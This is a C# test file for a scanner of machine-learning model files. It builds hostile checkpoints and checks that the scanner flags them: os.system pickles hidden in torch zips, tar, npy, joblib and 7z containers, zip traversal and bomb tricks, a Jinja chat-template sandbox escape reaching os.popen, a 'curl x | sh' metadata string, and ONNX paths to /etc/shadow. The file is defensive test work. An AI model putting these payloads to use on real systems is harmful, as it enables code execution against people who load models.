using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using Lineage.Formats;
using Lineage.Formats.Pickle;
using Lineage.Security;
using Lineage.Tests.Formats;
using Lineage.Tests.Support;
using static Lineage.Tests.Security.PickleBypassTests;

namespace Lineage.Tests.Security;

/// <summary>Containers and non-pickle formats: every way of hiding a pickle in a checkpoint, and the other formats' checks.</summary>
public class ContainerScanTests
{
    private static byte[] StateDict(params string[] keys)
    {
        var b = new PickleBuilder().Proto(2).Global("collections", "OrderedDict").Op(PickleOpcode.EmptyTuple).Op(PickleOpcode.Reduce);
        for (int i = 0; i < keys.Length; i++)
            b.Str(keys[i]).TensorV2("FloatStorage", i.ToString(System.Globalization.CultureInfo.InvariantCulture), 4, 0, [2, 2], TorchBuilder.RowMajor(2, 2)).Op(PickleOpcode.SetItem);
        return b.Stop().ToArray();
    }

    private static byte[] TorchZip(byte[] dataPickle, params (string Name, byte[] Data)[] extra)
    {
        var zip = new ZipBuilder { Alignment = 64 }.Add("archive/data.pkl", dataPickle).Add("archive/byteorder", "little"u8.ToArray());
        zip.Add("archive/data/0", TorchBuilder.Floats(1, 2, 3, 4));
        foreach (var (name, data) in extra) zip.Add(name, data);
        zip.Add("archive/version", "3\n"u8.ToArray());
        return zip.Build();
    }

    // ------------------------------------------------------------------ PyTorch zip

    [Fact]
    public void A_benign_torch_zip_is_clean()
    {
        Clean(Scan(TorchZip(StateDict("w")), "pytorch_model.bin"));
    }

    [Fact]
    public void A_malicious_data_pickle_is_critical_with_its_entry()
    {
        var f = Flagged(Scan(TorchZip(Payload())), "LIN-PKL-001", Severity.Critical, "os.system");
        Assert.Equal("archive/data.pkl", f.Entry);
    }

    [Theory]
    [InlineData("archive/extra/readme.txt")]
    [InlineData("archive/data.pkl.bak")]
    [InlineData("archive/.data/serialization_id")]
    [InlineData("archive/weights.bin")]
    public void A_pickle_in_a_member_with_an_innocent_name_is_found(string name)
    {
        // GHSA-769v-p64c-89pr: pickles under non-standard names inside a torch zip.
        var f = Flagged(Scan(TorchZip(StateDict("w"), (name, Payload()))), "LIN-PKL-001", Severity.Critical);
        Assert.Equal(name, f.Entry);
    }

    [Fact]
    public void Storage_members_are_not_parsed_but_a_complete_pickle_there_is_reported()
    {
        // A tensor blob that happens to start like a pickle is tensor data, not an error.
        byte[] floats = [0x80, 0x04, 0xFF, 0xFF, 0x12, 0x34, 0x56, 0x78, 0, 0, 0, 0, 0, 0, 0, 0];
        var zip = new ZipBuilder().Add("archive/data.pkl", StateDict("w")).Add("archive/data/0", floats).Build();
        Clean(Scan(zip));

        var hidden = new ZipBuilder().Add("archive/data.pkl", StateDict("w")).Add("archive/data/0", Payload()).Build();
        Flagged(Scan(hidden), "LIN-PKL-001", Severity.Critical, "os.system");
    }

    [Fact]
    public void Crc_and_flag_quirks_do_not_stop_the_scan()
    {
        // GHSA-7q5r-7gvp-wc82 (bad CRC) and GHSA-w8jq-xcqf-f792 (flag bits): loaders accept them, so must the scanner.
        var crc = new ZipBuilder().Add(new ZipBuilder.Item { Name = "archive/data.pkl", Data = Payload(), Crc = 0xDEADBEEF }).Build();
        var r = Scan(crc);
        Flagged(r, "LIN-PKL-001", Severity.Critical);
        Flagged(r, "LIN-ARC-004", Severity.Medium, "CRC");

        var flags = new ZipBuilder().Add(new ZipBuilder.Item { Name = "archive/data.pkl", Data = Payload(), Flags = 0x0040 | 0x2000 }).Build();
        var rf = Scan(flags);
        Flagged(rf, "LIN-PKL-001", Severity.Critical);
        Flagged(rf, "LIN-ARC-004", Severity.Medium, "flag");
    }

    [Fact]
    public void Name_mismatches_duplicates_traversal_and_links_are_findings()
    {
        var mismatch = new ZipBuilder().Add(new ZipBuilder.Item { Name = "archive/data.pkl", LocalName = "archive/readme.txt", Data = Payload() }).Build();
        var r = Scan(mismatch);
        Flagged(r, "LIN-ARC-003", Severity.High, "local header");
        Flagged(r, "LIN-PKL-001", Severity.Critical);

        var duplicate = new ZipBuilder().Add("archive/data.pkl", StateDict("w")).Add("archive/data/0", TorchBuilder.Floats(1, 2, 3, 4)).Add("archive/data.pkl", Payload()).Build();
        var rd = Scan(duplicate);
        Flagged(rd, "LIN-ARC-003", Severity.High, "duplicate-name");
        Flagged(rd, "LIN-PKL-001", Severity.Critical);

        var traversal = new ZipBuilder().Add("../../etc/cron.d/x", "* * * * * root id\n"u8.ToArray()).Add("/abs/path", "x"u8.ToArray()).Build();
        var rt = Scan(traversal);
        Assert.Equal(2, rt.Findings.Count(f => f.Rule == "LIN-ARC-001" && f.Severity == Severity.High));

        var link = new ZipBuilder().Add(new ZipBuilder.Item { Name = "model.bin", Data = "/etc/passwd"u8.ToArray(), VersionMadeBy = 3 << 8 | 20, ExternalAttributes = 0xA1FFu << 16 }).Build();
        Flagged(Scan(link), "LIN-ARC-002", Severity.High);
    }

    [Fact]
    public void A_member_missing_from_the_central_directory_is_still_scanned()
    {
        // Two members, then the directory rewritten to list only the first: streaming readers still see the second.
        byte[] full = new ZipBuilder().Add("archive/data.pkl", StateDict("w")).Add("archive/hidden.pkl", Payload()).Build();
        byte[] listed = new ZipBuilder().Add("archive/data.pkl", StateDict("w")).Build();
        int cdInFull = full.AsSpan().IndexOf("PK\x01\x02"u8);
        int cdInListed = listed.AsSpan().IndexOf("PK\x01\x02"u8);
        byte[] directory = listed[cdInListed..];
        BinaryPrimitives.WriteUInt32LittleEndian(directory.AsSpan(directory.Length - 6), (uint)cdInFull);
        byte[] hostile = [.. full[..cdInFull], .. directory];
        var r = Scan(hostile);
        Flagged(r, "LIN-ARC-003", Severity.High, "unlisted");
        var f = Flagged(r, "LIN-PKL-001", Severity.Critical, "os.system");
        Assert.StartsWith("unlisted member 'archive/hidden.pkl'", f.Entry, StringComparison.Ordinal);
    }

    [Fact]
    public void Encrypted_or_unsupported_members_fail_closed()
    {
        var encrypted = new ZipBuilder().Add(new ZipBuilder.Item { Name = "data.pkl", Data = Payload(), Flags = 1 }).Build();
        var r = Scan(encrypted);
        Assert.Equal(FileStatus.Error, r.Status);
        Flagged(r, "LIN-SCAN-001", Severity.High, "encrypted");
    }

    [Fact]
    public void Nested_archives_are_scanned_and_bombs_hit_limits()
    {
        byte[] inner = new ZipBuilder().Add("model/data.pkl", Payload()).Build();
        byte[] outer = new ZipBuilder().Add("bundle/inner.zip", inner, deflate: true).Build();
        var f = Flagged(Scan(outer), "LIN-PKL-001", Severity.Critical);
        Assert.Equal("bundle/inner.zip/model/data.pkl", f.Entry);

        // 64 MiB of zeros deflate to ~64 KiB: past the ratio grace, the ratio limit stops it without holding it all.
        byte[] zeros = new byte[64 << 20];
        var bomb = new ZipBuilder().Add("zeros.bin", zeros, deflate: true).Build();
        var rb = Scan(bomb, "bomb.zip", new ScanOptions { MaxCompressionRatio = 100 });
        Assert.Equal(FileStatus.Error, rb.Status);
        Flagged(rb, "LIN-SCAN-006", Severity.High, "100:1");

        var budget = Scan(bomb, "bomb.zip", new ScanOptions { MaxExpandedBytes = 1 << 20 });
        Flagged(budget, "LIN-SCAN-006", Severity.High);
    }

    [Fact]
    public void Keras_zips_go_through_the_keras_config_checks()
    {
        string config = """{"class_name": "Functional", "config": {"layers": [{"class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMEAAAAdABTAKkBTqkA", "defaults": null, "closure": null}}}}]}}""";
        var keras = new ZipBuilder().Add("metadata.json", """{"keras_version": "3.3.3"}"""u8.ToArray()).Add("config.json", Encoding.UTF8.GetBytes(config)).Build();
        var f = Flagged(Scan(keras, "model.keras"), "LIN-KERAS-001", Severity.Critical);
        Assert.Equal("config.json", f.Entry);
    }

    // ------------------------------------------------------------------ legacy torch, tar, npy, joblib, compressed

    [Fact]
    public void Legacy_stacked_torch_files_scan_every_header_pickle()
    {
        var main = new PickleBuilder().Proto(2).Op(PickleOpcode.EmptyDict).Str("w").TensorV2("FloatStorage", "k", 4, 0, [4], [1]).Op(PickleOpcode.SetItem).Stop().ToArray();
        byte[] benign = TorchBuilder.Legacy(main, [("k", 4, TorchBuilder.Floats(1, 2, 3, 4))]);
        Clean(Scan(benign, "model.pt"));

        // CVE-2025-32434 shape: the payload sits in a bookkeeping pickle that weights_only-style checks skipped.
        byte[] hostile = TorchBuilder.Legacy(main, [("k", 4, TorchBuilder.Floats(1, 2, 3, 4))]);
        byte[] magic = new PickleBuilder().Proto(2).Long1(TorchBuilder.LegacyMagic).Stop().ToArray();
        byte[] protocol = new PickleBuilder().Proto(2).Int(1001).Stop().ToArray();
        byte[] evil = [.. magic, .. protocol, .. Payload(), .. hostile[(magic.Length + protocol.Length)..]];
        var f = Flagged(Scan(evil, "model.pt"), "LIN-PKL-001", Severity.Critical, "os.system");
        Assert.Contains("pickle 3", f.Entry, StringComparison.Ordinal);
    }

    private static byte[] Tar(params (string Name, byte[] Data, char Type, string Link)[] members)
    {
        using var ms = new MemoryStream();
        foreach (var (name, data, type, link) in members)
        {
            var h = new byte[512];
            Encoding.ASCII.GetBytes(name).CopyTo(h, 0);
            Encoding.ASCII.GetBytes("0000644\0").CopyTo(h, 100);
            Encoding.ASCII.GetBytes(Convert.ToString(data.Length, 8).PadLeft(11, '0') + "\0").CopyTo(h, 124);
            Encoding.ASCII.GetBytes("00000000000\0").CopyTo(h, 136);
            h[156] = (byte)type;
            Encoding.ASCII.GetBytes(link).CopyTo(h, 157);
            "ustar\0"u8.CopyTo(h.AsSpan(257));
            "00"u8.CopyTo(h.AsSpan(263));
            for (int i = 148; i < 156; i++) h[i] = (byte)' ';
            int sum = h.Sum(b => b);
            Encoding.ASCII.GetBytes(Convert.ToString(sum, 8).PadLeft(6, '0') + "\0 ").CopyTo(h, 148);
            ms.Write(h);
            ms.Write(data);
            ms.Write(new byte[(512 - data.Length % 512) % 512]);
        }
        ms.Write(new byte[1024]);
        return ms.ToArray();
    }

    private static byte[] Concat(params byte[][] parts) => [.. parts.SelectMany(p => p)];

    private static byte[] I64(long v)
    {
        var b = new byte[8];
        BinaryPrimitives.WriteInt64LittleEndian(b, v);
        return b;
    }

    [Fact]
    public void Torch_tar_records_are_scanned_between_their_raw_bytes()
    {
        byte[] count = new PickleBuilder().Proto(2).Int(1).Stop().ToArray();
        byte[] storageRecord = new PickleBuilder().Proto(2).Str("k").Str("cpu").Global("torch", "FloatStorage").Op(PickleOpcode.Tuple3).Stop().ToArray();
        byte[] storages = Concat(count, storageRecord, I64(4), TorchBuilder.Floats(1, 2, 3, 4));
        byte[] tensorRecord(byte[] pickle) => Concat(count, pickle, [1, 0, 0, 0, 0, 0, 0, 0], I64(4), I64(1), I64(0));
        byte[] benignTensor = new PickleBuilder().Proto(2).Str("t").Str("k").Global("torch", "FloatTensor").Op(PickleOpcode.Tuple3).Stop().ToArray();
        byte[] sysInfo = new PickleBuilder().Proto(2).Op(PickleOpcode.EmptyDict).Str("little_endian").Bool(true).Op(PickleOpcode.SetItem).Stop().ToArray();
        byte[] mainPickle = new PickleBuilder().Proto(2).PersId("t").Stop().ToArray();
        var benign = Tar(("sys_info", sysInfo, '0', ""), ("storages", storages, '0', ""), ("tensors", tensorRecord(benignTensor), '0', ""), ("pickle", mainPickle, '0', ""));
        var rb = Scan(benign, "old.tar");
        Assert.Equal("tar", rb.Format);
        Assert.DoesNotContain(rb.Findings, f => f.Severity >= Severity.Critical || f.Rule == "LIN-SCAN-001");

        // CVE-2025-32434: weights_only=True did not guard the legacy tar records; the payload hides in a tensor record.
        var hostile = Tar(("sys_info", sysInfo, '0', ""), ("storages", storages, '0', ""), ("tensors", tensorRecord(Payload()), '0', ""), ("pickle", mainPickle, '0', ""));
        var f = Flagged(Scan(hostile, "old.tar"), "LIN-PKL-001", Severity.Critical, "os.system");
        Assert.Equal("tensors", f.Entry);
    }

    [Fact]
    public void Tar_links_traversal_and_special_members_are_findings()
    {
        var tar = Tar(("../evil.sh", "echo"u8.ToArray(), '0', ""), ("link", [], '2', "/etc/passwd"), ("fifo", [], '6', ""), ("w.pkl", Payload(), '0', ""));
        var r = Scan(tar, "bundle.tar");
        Flagged(r, "LIN-ARC-001", Severity.High);
        Flagged(r, "LIN-ARC-002", Severity.High, "/etc/passwd");
        Flagged(r, "LIN-ARC-006", Severity.Medium);
        Assert.Equal("w.pkl", Flagged(r, "LIN-PKL-001", Severity.Critical).Entry);
    }

    private static byte[] Npy(string descr, byte[] data, string shape = "(1,)")
    {
        string header = $"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape}, }}";
        int total = 10 + header.Length + 1;
        header = header.PadRight(header.Length + (64 - total % 64) % 64) + "\n";
        var b = new List<byte> { 0x93 };
        b.AddRange("NUMPY"u8.ToArray());
        b.Add(1);
        b.Add(0);
        b.Add((byte)(header.Length & 0xFF));
        b.Add((byte)(header.Length >> 8));
        b.AddRange(Encoding.ASCII.GetBytes(header));
        b.AddRange(data);
        return [.. b];
    }

    [Fact]
    public void Npy_and_npz_object_arrays_have_their_pickle_scanned()
    {
        Clean(Scan(Npy("<f4", TorchBuilder.Floats(1)), "a.npy"));
        var r = Scan(Npy("|O", Payload()), "a.npy");
        Flagged(r, "LIN-NPY-001", Severity.Low);
        Flagged(r, "LIN-PKL-001", Severity.Critical);

        var npz = new ZipBuilder().Add("ok.npy", Npy("<f4", TorchBuilder.Floats(1))).Add("obj.npy", Npy("|O", Payload()), deflate: true).Build();
        Assert.Equal("obj.npy", Flagged(Scan(npz, "arrays.npz"), "LIN-PKL-001", Severity.Critical).Entry);

        var truncated = Scan(Npy("<f4", TorchBuilder.Floats(1), "(1000,)"), "t.npy");
        Assert.Equal(FileStatus.Error, truncated.Status);
    }

    public static TheoryData<string> Compressions() => ["zlib", "gzip", "bz2", "lzma", "xz-absent"];

    private static byte[] Compress(string kind, byte[] data)
    {
        using var ms = new MemoryStream();
        switch (kind)
        {
            case "zlib":
                using (var z = new ZLibStream(ms, CompressionLevel.Optimal, leaveOpen: true)) z.Write(data);
                break;
            case "gzip":
                using (var z = new GZipStream(ms, CompressionLevel.Optimal, leaveOpen: true)) z.Write(data);
                break;
            case "bz2":
                using (var z = SharpCompress.Compressors.BZip2.BZip2Stream.Create(ms, SharpCompress.Compressors.CompressionMode.Compress, false, leaveOpen: true, tolerateTruncatedStream: false)) z.Write(data);
                break;
            case "lzma":
                {
                    var props = new SharpCompress.Compressors.LZMA.LzmaEncoderProperties(eos: true);
                    using var body = new MemoryStream();
                    byte[] properties;
                    using (var z = SharpCompress.Compressors.LZMA.LzmaStream.Create(props, false, body))
                    {
                        z.Write(data);
                        properties = z.Properties;
                    }
                    ms.Write(properties);
                    ms.Write(I64(-1));
                    ms.Write(body.ToArray());
                    break;
                }
        }
        return ms.ToArray();
    }

    [Theory]
    [InlineData("zlib")]
    [InlineData("gzip")]
    [InlineData("bz2")]
    [InlineData("lzma")]
    public void Compressed_joblib_and_pickle_streams_are_expanded_and_scanned(string kind)
    {
        byte[] packed = Compress(kind, Payload());
        var r = Scan(packed, "model.joblib");
        Assert.NotEqual("unknown", r.Format);
        var f = Flagged(r, "LIN-PKL-001", Severity.Critical, "os.system");
        Assert.NotNull(f.Entry);

        Clean(Scan(Compress(kind, StateDict("w")), "state.pkl"));
    }

    [Fact]
    public void Seven_zip_members_are_expanded_and_scanned()
    {
        using var ms = new MemoryStream();
        using (var writer = new SharpCompress.Writers.SevenZip.SevenZipWriter(ms, new SharpCompress.Writers.SevenZip.SevenZipWriterOptions()))
        {
            writer.Write("model/config.json", new MemoryStream("{}"u8.ToArray()), null);
            writer.Write("model/pytorch_model.bin", new MemoryStream(Payload()), null);
        }
        var r = Scan(ms.ToArray(), "bundle.7z");
        Assert.Equal("sevenzip", r.Format);
        Assert.Equal("model/pytorch_model.bin", Flagged(r, "LIN-PKL-001", Severity.Critical, "os.system").Entry);
    }

    [Fact]
    public void Corrupt_compressed_streams_and_7z_fail_closed()
    {
        byte[] gz = Compress("gzip", Payload());
        gz[12] ^= 0xFF;
        gz[13] ^= 0xFF;
        Assert.Equal(FileStatus.Error, Scan(gz[..^8], "x.gz").Status);
        byte[] sevenZip = [0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C, 0, 4, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20, 21, 22, 23, 24];
        var r = Scan(sevenZip, "x.7z");
        Assert.Equal("sevenzip", r.Format);
        Assert.Equal(FileStatus.Error, r.Status);
    }

    // ------------------------------------------------------------------ GGUF, ONNX, TensorFlow

    [Fact]
    public void Gguf_chat_template_sandbox_escape_is_critical_at_its_byte_offset()
    {
        // CVE-2024-34359 (llama-cpp-python): the GGUF chat template reaches os.popen through __subclasses__.
        string template = "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}";
        var g = new GgufBuilder().String("general.architecture", "llama").String("tokenizer.chat_template", template);
        byte[] bytes = g.Build();
        var r = Scan(bytes, "model.gguf");
        var f = Flagged(r, "LIN-JINJA-001", Severity.Critical);
        int start = bytes.AsSpan().IndexOf(Encoding.UTF8.GetBytes(template));
        Assert.InRange(f.Offset!.Value, start, start + template.Length);
        // Each finding points at its construct inside the template text, not at the key.
        var jinja = r.Findings.Where(x => x.Rule.StartsWith("LIN-JINJA", StringComparison.Ordinal)).ToList();
        Assert.All(jinja, x => Assert.InRange(x.Offset!.Value, start, start + template.Length));
        Assert.True(jinja.Select(x => x.Offset).Distinct().Count() >= 3, "findings point at their constructs");
        int subclasses = start + template.IndexOf("__subclasses__", StringComparison.Ordinal);
        Assert.Contains(jinja, x => Math.Abs(x.Offset!.Value - subclasses) <= 2);

        var named = new GgufBuilder().String("tokenizer.chat_template.tool_use", "{{ cycler.__init__.__globals__.os.popen('id') }}").Build();
        Flagged(Scan(named, "m.gguf"), "LIN-JINJA-001", Severity.Critical);

        var payload = new GgufBuilder().String("general.description", "import os; os.system('curl x | sh')").String("general.url", "https://example.com/m").Build();
        var rp = Scan(payload, "m.gguf");
        Flagged(rp, "LIN-META-001", Severity.High);
        Assert.DoesNotContain(rp.Findings, x => x.Rule == "LIN-META-005");
    }

    [Fact]
    public void Malformed_gguf_fails_closed()
    {
        byte[] bytes = new GgufBuilder().String("tokenizer.chat_template", "{{ messages }}").Build();
        var r = Scan(bytes[..^5], "m.gguf");
        Assert.Equal(FileStatus.Error, r.Status);
        Flagged(r, "LIN-SCAN-001");
    }

    private static byte[] OnnxModel(string domain, string opType, string? externalLocation)
    {
        var node = new ProtoWriter().String(1, "x").String(2, "y").String(3, "n0").String(4, opType).String(7, domain);
        var tensor = new ProtoWriter().Varint(1, 4).Varint(2, 1).String(8, "w");
        if (externalLocation is not null)
        {
            tensor.Message(13, new ProtoWriter().String(1, "location").String(2, externalLocation));
            tensor.Varint(14, 1);
        }
        else
        {
            tensor.Bytes(9, TorchBuilder.Floats(1, 2, 3, 4));
        }
        var graph = new ProtoWriter().Message(1, node).String(2, "g").Message(5, tensor);
        var model = new ProtoWriter().Varint(1, 8).String(2, "test").Message(7, graph).Message(8, new ProtoWriter().String(1, "").Varint(2, 17));
        if (domain.Length > 0) model.Message(8, new ProtoWriter().String(1, domain).Varint(2, 1));
        return model.ToArray();
    }

    [Fact]
    public void Onnx_external_data_escapes_custom_domains_and_python_ops()
    {
        Clean(Scan(OnnxModel("", "Relu", null), "m.onnx"));
        Flagged(Scan(OnnxModel("", "Relu", "../../etc/passwd"), "m.onnx"), "LIN-ONNX-001", Severity.High, "'..'");
        Flagged(Scan(OnnxModel("", "Relu", "/etc/shadow"), "m.onnx"), "LIN-ONNX-001", Severity.High, "absolute");
        var custom = Flagged(Scan(OnnxModel("evil.ops", "Backdoor", null), "m.onnx"), "LIN-ONNX-002", Severity.Medium, "evil.ops");
        Assert.Contains("evil.ops:Backdoor", custom.Evidence, StringComparison.Ordinal);
        var ort = Scan(OnnxModel("com.microsoft", "FusedMatMul", null), "m.onnx");
        Assert.True(ort.Findings.All(f => f.Severity == Severity.Info), "ONNX Runtime's own domain is informational");
        Flagged(Scan(OnnxModel("ai.onnx.contrib", "PyOp", null), "m.onnx"), "LIN-ONNX-003", Severity.High);

        var broken = OnnxModel("", "Relu", null);
        Assert.Equal(FileStatus.Error, Scan(broken[..^3], "m.onnx").Status);
    }

    [Fact]
    public void Onnx_external_data_through_a_link_out_of_the_folder_is_high()
    {
        using var dir = new TempDir();
        using var outside = new TempDir();
        string secret = outside.Write("secret.bin", new byte[16]);
        File.CreateSymbolicLink(dir.File("weights.bin"), secret);
        dir.Write("model.onnx", OnnxModel("", "Relu", "weights.bin"));
        var report = Scanner.Scan([dir.File("model.onnx")]);
        Flagged(report.Files[0], "LIN-ONNX-001", Severity.High, "symbolic link");
    }

    private static byte[] SavedModel(params string[] ops)
    {
        var graph = new ProtoWriter();
        for (int i = 0; i < ops.Length; i++) graph.Message(1, new ProtoWriter().String(1, $"n{i}").String(2, ops[i]));
        var function = new ProtoWriter().Message(1, new ProtoWriter().String(1, "f")).Message(3, new ProtoWriter().String(1, "inner").String(2, "Identity"));
        graph.Message(2, new ProtoWriter().Message(1, function));
        var meta = new ProtoWriter().Message(2, graph);
        return new ProtoWriter().Varint(1, 1).Message(2, meta).ToArray();
    }

    [Fact]
    public void Tensorflow_savedmodel_risky_ops_are_reported_and_checkpoint_ops_are_not()
    {
        var clean = Scan(SavedModel("Const", "MatMul", "SaveV2", "RestoreV2", "ShardedFilename", "MergeV2Checkpoints"), "saved_model.pb");
        Assert.Equal("tf-savedmodel", clean.Format);
        Clean(clean);
        Flagged(Scan(SavedModel("Const", "PyFunc"), "saved_model.pb"), "LIN-TF-001", Severity.Critical, "PyFunc");
        Flagged(Scan(SavedModel("EagerPyFunc"), "saved_model.pb"), "LIN-TF-001", Severity.Critical);
        Flagged(Scan(SavedModel("ReadFile", "WriteFile"), "saved_model.pb"), "LIN-TF-002", Severity.High, "ReadFile");
        Flagged(Scan(SavedModel("DebugIdentity"), "saved_model.pb"), "LIN-TF-002", Severity.High);
        Flagged(Scan(SavedModel("ExecuteShellCommand"), "saved_model.pb"), "LIN-TF-003", Severity.Medium);
        byte[] broken = SavedModel("Const");
        Assert.Equal(FileStatus.Error, Scan(broken[..^2], "saved_model.pb").Status);
    }

    // ------------------------------------------------------------------ detection

    [Fact]
    public void Pickles_are_detected_by_content_and_text_is_not()
    {
        Assert.Equal(ContainerFormat.Pickle, FormatDetector.Detect(Payload(), Payload().Length));
        byte[] noProto = new PickleBuilder().StackGlobal("os", "system").Str("id").Op(PickleOpcode.Tuple1).Op(PickleOpcode.Reduce).Stop().ToArray();
        Assert.Equal(ContainerFormat.Pickle, FormatDetector.Detect(noProto, noProto.Length));
        Flagged(Scan(noProto, "README"), "LIN-PKL-001", Severity.Critical);
        foreach (string text in new[] { "chat_template: x\n", "In this folder\n", "Commit: abc\n", "(see below)\n", "Notes\n", "]] not a pickle", "README.md", "Xw== 1\nIQ== 0\n", "cw== 2\n" })
            Assert.NotEqual(ContainerFormat.Pickle, FormatDetector.Detect(Encoding.UTF8.GetBytes(text), text.Length));
        byte[] zeroProto = "cos\nsystem\n(S'id'\ntR."u8.ToArray();
        Assert.Equal(ContainerFormat.Pickle, FormatDetector.Detect(zeroProto, zeroProto.Length));
    }
}
